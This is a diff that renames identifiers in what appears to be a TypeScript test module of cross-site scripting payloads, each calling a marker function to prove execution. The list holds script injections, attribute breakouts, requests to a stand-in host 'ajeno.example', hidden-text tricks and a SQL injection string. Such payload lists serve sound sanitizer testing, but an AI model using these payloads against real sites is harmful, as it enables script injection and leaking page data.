@@ -1,9 +1,9 @@
-/** The function that an executed payload calls. */
+/** The name of the function that an executed payload calls. */
 export const RUN_CALLBACK = 'marcaDeEjecucion'
-const FOREIGN = 'ajeno.example'
+const FOREIGN_HOST = 'ajeno.example'
 
 /** `run` is the call of RUN_CALLBACK that shows that the payload was executed. */
-const templates: ((run: string) => string)[] = [
+const payloadTemplates: ((run: string) => string)[] = [
   // Scripts, ends of quoted texts, template expressions, and elements that run a script while they are parsed.
   (run) => `<script>${run}</script>`,
   (run) => `</script><script>${run}</script>`,
@@ -56,13 +56,13 @@ const templates: ((run: string) => string)[] = [
   // Attributes, styles, and requests to another server.
   (run) => `" autofocus onfocus="${run}" x="`,
   (run) => `' onmouseover='${run}`,
-  (run) => `<style>*{background:url(//${FOREIGN}/s)}</style>${run}`,
-  (run) => `<div style="background:url(https://${FOREIGN}/d)">${run}</div>`,
-  (run) => `<link rel=stylesheet href=https://${FOREIGN}/l.css>${run}`,
-  (run) => `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/?${run}">`,
-  (run) => `<base href=https://${FOREIGN}/>${run}`,
-  (run) => `<img src=https://${FOREIGN}/pixel.png>${run}`,
-  (run) => `<form action=https://${FOREIGN}/><button>${run}</button>`,
+  (run) => `<style>*{background:url(//${FOREIGN_HOST}/s)}</style>${run}`,
+  (run) => `<div style="background:url(https://${FOREIGN_HOST}/d)">${run}</div>`,
+  (run) => `<link rel=stylesheet href=https://${FOREIGN_HOST}/l.css>${run}`,
+  (run) => `<meta http-equiv=refresh content="0;url=https://${FOREIGN_HOST}/?${run}">`,
+  (run) => `<base href=https://${FOREIGN_HOST}/>${run}`,
+  (run) => `<img src=https://${FOREIGN_HOST}/pixel.png>${run}`,
+  (run) => `<form action=https://${FOREIGN_HOST}/><button>${run}</button>`,
   // Text that changes direction, hides or overflows, and names that overwrite those of the page.
   (run) => `\u202E>tpircs/<${run}>tpircs<\u202C`,
   (run) => `Ana\u200B\u2066<img src=x onerror=${run}>\u2069`,
@@ -74,4 +74,4 @@ const templates: ((run: string) => string)[] = [
   (run) => `'; drop table students; --<script>${run}</script>`,
 ]
 
-export const payloads: string[] = templates.map((write, n) => write(`${RUN_CALLBACK}(${n})`))
+export const payloads: string[] = payloadTemplates.map((write, n) => write(`${RUN_CALLBACK}(${n})`))
